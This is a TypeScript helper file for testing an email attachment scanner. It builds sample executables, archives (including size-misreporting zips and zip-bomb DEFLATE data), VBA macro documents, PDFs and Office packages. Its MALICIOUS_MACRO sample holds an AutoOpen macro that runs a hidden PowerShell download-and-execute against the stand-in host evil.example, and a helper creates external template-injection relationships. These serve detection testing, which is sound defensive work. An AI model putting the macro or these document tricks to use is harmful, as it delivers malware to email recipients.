/**
 * Builders for attachment tests: emails made directly as ParsedEmail, and the
 * files themselves (PE stubs, zips, OLE files with VBA, PDFs) built in memory.
 */
import * as CFB from 'cfb';
import { zipSync } from 'fflate';
import type { AttachmentReport, Finding } from '../../src/contracts/analysis-result.ts';
import { analyzeAttachments } from '../../src/engine/analyzers/attachments.ts';
import { DEFAULT_ENGINE_OPTIONS } from '../../src/engine/defaults.ts';
import type { EnginePorts, ParsedAttachment, ParsedEmail } from '../../src/engine/types.ts';

export const text = (s: string): Uint8Array => new TextEncoder().encode(s);
export const latin1Bytes = (s: string): Uint8Array => Uint8Array.from(s, (c) => c.charCodeAt(0));

export function attachment(
  filename: string | null,
  content: Uint8Array,
  mimeType = 'application/octet-stream',
): ParsedAttachment {
  return { filename, mimeType, disposition: 'attachment', content };
}

export function emailWith(
  attachments: ParsedAttachment[],
  overrides: Partial<ParsedEmail> = {},
): ParsedEmail {
  return {
    raw: new Uint8Array(0),
    headers: [],
    from: { name: 'Sender', address: 'sender@example.org' },
    sender: null,
    replyTo: [],
    returnPath: null,
    to: [{ name: '', address: 'victim@example.com' }],
    subject: 'Test',
    messageId: '<test@example.org>',
    date: null,
    text: '',
    html: '',
    attachments,
    parseFindings: [],
    ...overrides,
  };
}

export const context = (ports: EnginePorts = {}) => ({ options: DEFAULT_ENGINE_OPTIONS, ports });

export interface AttachmentRun {
  findings: Finding[];
  reports: AttachmentReport[];
  ids: string[];
}

export async function runAttachments(...attachments: ParsedAttachment[]): Promise<AttachmentRun> {
  const output = await analyzeAttachments(emailWith(attachments), context());
  return {
    findings: output.findings,
    reports: output.attachments ?? [],
    ids: [...new Set(output.findings.map((f) => f.id))].sort(),
  };
}

// ---- simple files -------------------------------------------------------------------------

/** "MZ", a DOS stub and a PE header at 0x80: enough for every signature check. */
export function peStub(): Uint8Array {
  const bytes = new Uint8Array(512);
  bytes.set(latin1Bytes('MZ'), 0);
  new DataView(bytes.buffer).setUint32(0x3c, 0x80, true);
  bytes.set(latin1Bytes('PE\0\0'), 0x80);
  return bytes;
}

export function lnkHeader(): Uint8Array {
  const bytes = new Uint8Array(76);
  bytes.set([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
  return bytes;
}

export function isoImage(): Uint8Array {
  const bytes = new Uint8Array(0x8800);
  bytes[0x8000] = 1;
  bytes.set(latin1Bytes('CD001'), 0x8001);
  return bytes;
}

export function oneNote(): Uint8Array {
  const bytes = new Uint8Array(1024);
  bytes.set([
    0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3,
  ]);
  return bytes;
}

/** A 1x1 PNG. */
export function png(): Uint8Array {
  return Uint8Array.from(
    Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
      'base64',
    ),
  );
}

/** A PDF with the given objects after a catalog and one page; offsets are not needed for scanning. */
export function pdf(...objects: string[]): Uint8Array {
  const body = [
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
    ...objects,
  ].join('\n');
  return latin1Bytes(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
}

// ---- archives -----------------------------------------------------------------------------

export function zip(files: Record<string, Uint8Array>): Uint8Array {
  return zipSync(files, { level: 6 });
}

export interface RawZipEntry {
  name: string;
  /** Already compressed with `method`. */
  data: Uint8Array;
  method: 0 | 8;
  uncompressedSize: number;
  flags?: number;
}

/** A zip written by hand, so tests can lie about sizes and set flags; CRCs are left zero. */
export function rawZip(entries: RawZipEntry[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = text(entry.name);
    const local = new Uint8Array(30 + name.length);
    const lv = new DataView(local.buffer);
    lv.setUint32(0, 0x04034b50, true);
    lv.setUint16(4, 20, true);
    lv.setUint16(6, entry.flags ?? 0, true);
    lv.setUint16(8, entry.method, true);
    lv.setUint32(18, entry.data.length, true);
    lv.setUint32(22, entry.uncompressedSize, true);
    lv.setUint16(26, name.length, true);
    local.set(name, 30);
    const central = new Uint8Array(46 + name.length);
    const cv = new DataView(central.buffer);
    cv.setUint32(0, 0x02014b50, true);
    cv.setUint16(4, 20, true);
    cv.setUint16(6, 20, true);
    cv.setUint16(8, entry.flags ?? 0, true);
    cv.setUint16(10, entry.method, true);
    cv.setUint32(20, entry.data.length, true);
    cv.setUint32(24, entry.uncompressedSize, true);
    cv.setUint16(28, name.length, true);
    cv.setUint32(42, offset, true);
    central.set(name, 46);
    locals.push(local, entry.data);
    centrals.push(central);
    offset += local.length + entry.data.length;
  }
  const centralSize = centrals.reduce((n, c) => n + c.length, 0);
  const eocd = new Uint8Array(22);
  const ev = new DataView(eocd.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, entries.length, true);
  ev.setUint16(10, entries.length, true);
  ev.setUint32(12, centralSize, true);
  ev.setUint32(16, offset, true);
  return Buffer.concat([...locals, ...centrals, eocd]);
}

/**
 * Raw DEFLATE of `byteCount` zeros without spending the time to compress
 * them: one fixed-Huffman block of a literal 0 followed by (length 258,
 * distance 1) copies, 13 bits per 258 bytes.
 */
export function deflateZeros(byteCount: number): Uint8Array {
  const out = new Uint8Array(Math.ceil(((byteCount / 258) * 13) / 8) + 512);
  let bitPos = 0;
  const put = (value: number, bits: number): void => {
    for (let i = 0; i < bits; i++, bitPos++) {
      if ((value >> i) & 1) out[bitPos >> 3]! |= 1 << (bitPos & 7);
    }
  };
  /** Huffman codes go most-significant bit first. */
  const putCode = (code: number, bits: number): void => {
    for (let i = bits - 1; i >= 0; i--) put((code >> i) & 1, 1);
  };
  put(1, 1); // final block
  put(1, 2); // fixed Huffman
  putCode(0x30, 8); // literal 0
  let remaining = byteCount - 1;
  while (remaining >= 258) {
    putCode(0b11000101, 8); // length code 285: 258 bytes
    putCode(0, 5); // distance code 0: distance 1
    remaining -= 258;
  }
  for (; remaining > 0; remaining--) putCode(0x30, 8);
  putCode(0, 7); // end of block (code 256)
  return out.subarray(0, Math.ceil(bitPos / 8));
}

// ---- VBA ----------------------------------------------------------------------------------

/** MS-OVBA compression with literal tokens only: valid, just not smaller. Fine for short sources. */
export function compressOvbaLiterals(data: Uint8Array): Uint8Array {
  const out: number[] = [0x01];
  for (let chunkStart = 0; chunkStart < data.length; chunkStart += 4096) {
    const chunk = data.subarray(chunkStart, chunkStart + 4096);
    const body: number[] = [];
    for (let i = 0; i < chunk.length; i += 8) body.push(0x00, ...chunk.subarray(i, i + 8));
    if (body.length > 4096)
      throw new Error('literal-only chunk too large; keep test sources short');
    const header = 0x8000 | 0x3000 | (body.length + 2 - 3);
    out.push(header & 0xff, header >> 8, ...body);
  }
  return Uint8Array.from(out);
}

function dirRecord(id: number, data: Uint8Array): Uint8Array {
  const record = new Uint8Array(6 + data.length);
  const view = new DataView(record.buffer);
  view.setUint16(0, id, true);
  view.setUint32(2, data.length, true);
  record.set(data, 6);
  return record;
}

const u16 = (n: number): Uint8Array => Uint8Array.of(n & 0xff, n >> 8);
const u32 = (n: number): Uint8Array => new Uint8Array(Uint32Array.of(n).buffer);

export interface VbaModuleSpec {
  name: string;
  source: string;
}

/** Junk standing in for compiled p-code before the source, to exercise MODULEOFFSET. */
const PCODE_BYTES = 37;

/** A `dir` stream: project information, then one record group per module. */
function vbaDirStream(modules: VbaModuleSpec[]): Uint8Array {
  const records = [
    dirRecord(0x0001, u32(1)), // PROJECTSYSKIND: Win32
    dirRecord(0x0003, u16(1252)), // PROJECTCODEPAGE
    dirRecord(0x0004, text('VBAProject')), // PROJECTNAME
    // PROJECTVERSION: the size field says 4 but 6 bytes follow.
    Uint8Array.of(0x09, 0x00, 0x04, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00),
    dirRecord(0x000f, u16(modules.length)), // PROJECTMODULES
    dirRecord(0x0013, u16(0xffff)), // PROJECTCOOKIE
    ...modules.flatMap((m) => [
      dirRecord(0x0019, text(m.name)), // MODULENAME
      dirRecord(0x001a, text(m.name)), // MODULESTREAMNAME
      dirRecord(0x0032, Buffer.from(m.name, 'utf16le')), // its Unicode twin
      dirRecord(0x0031, u32(PCODE_BYTES)), // MODULEOFFSET
      dirRecord(0x0021, new Uint8Array(0)), // MODULETYPE: procedural
      dirRecord(0x002b, new Uint8Array(0)), // module terminator
    ]),
    dirRecord(0x0010, new Uint8Array(0)), // end of dir
  ];
  return compressOvbaLiterals(Buffer.concat(records));
}

/** Adds a VBA project under `storage` ('VBA' for vbaProject.bin, 'Macros/VBA' in a .doc). */
function addVbaProject(cfb: CFB.CFB$Container, storage: string, modules: VbaModuleSpec[]): void {
  CFB.utils.cfb_add(cfb, `/${storage}/dir`, Buffer.from(vbaDirStream(modules)));
  CFB.utils.cfb_add(cfb, `/${storage}/_VBA_PROJECT`, Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00]));
  for (const m of modules) {
    const stream = Buffer.concat([
      new Uint8Array(PCODE_BYTES).fill(0xaa),
      compressOvbaLiterals(text(m.source)),
    ]);
    CFB.utils.cfb_add(cfb, `/${storage}/${m.name}`, stream);
  }
}

function writeCfb(cfb: CFB.CFB$Container): Uint8Array {
  return new Uint8Array(CFB.write(cfb, { type: 'buffer' }) as Buffer);
}

/** vbaProject.bin as found in .docm/.xlsm packages. */
export function vbaProjectBin(modules: VbaModuleSpec[]): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  addVbaProject(cfb, 'VBA', modules);
  return writeCfb(cfb);
}

/** A legacy Word document (.doc) with an optional macro project. */
export function legacyDoc(modules: VbaModuleSpec[] = []): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/WordDocument', Buffer.alloc(600, 0x20));
  if (modules.length > 0) addVbaProject(cfb, 'Macros/VBA', modules);
  return writeCfb(cfb);
}

export const MALICIOUS_MACRO: VbaModuleSpec = {
  name: 'Module1',
  source: [
    'Attribute VB_Name = "Module1"',
    'Sub AutoOpen()',
    '    Dim s As String',
    '    s = "powershell -nop -w hidden -c iex(New-Object Net.WebClient).DownloadString(\'http://evil.example/p\')"',
    '    Shell s, vbHide',
    'End Sub',
  ].join('\r\n'),
};

export const HARMLESS_MACRO: VbaModuleSpec = {
  name: 'Module1',
  source: [
    'Attribute VB_Name = "Module1"',
    'Sub FormatTable()',
    '    Selection.Font.Bold = True',
    'End Sub',
  ].join('\r\n'),
};

// ---- OOXML --------------------------------------------------------------------------------

const CONTENT_TYPES = text(
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const PACKAGE_RELS = text(
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
);
const DOCUMENT = text(
  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body></w:document>',
);

export function docx(extraParts: Record<string, Uint8Array> = {}): Uint8Array {
  return zip({
    '[Content_Types].xml': CONTENT_TYPES,
    '_rels/.rels': PACKAGE_RELS,
    'word/document.xml': DOCUMENT,
    ...extraParts,
  });
}

export function docm(modules: VbaModuleSpec[]): Uint8Array {
  return docx({ 'word/vbaProject.bin': vbaProjectBin(modules) });
}

export function settingsRels(target: string): Uint8Array {
  return text(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
  );
}
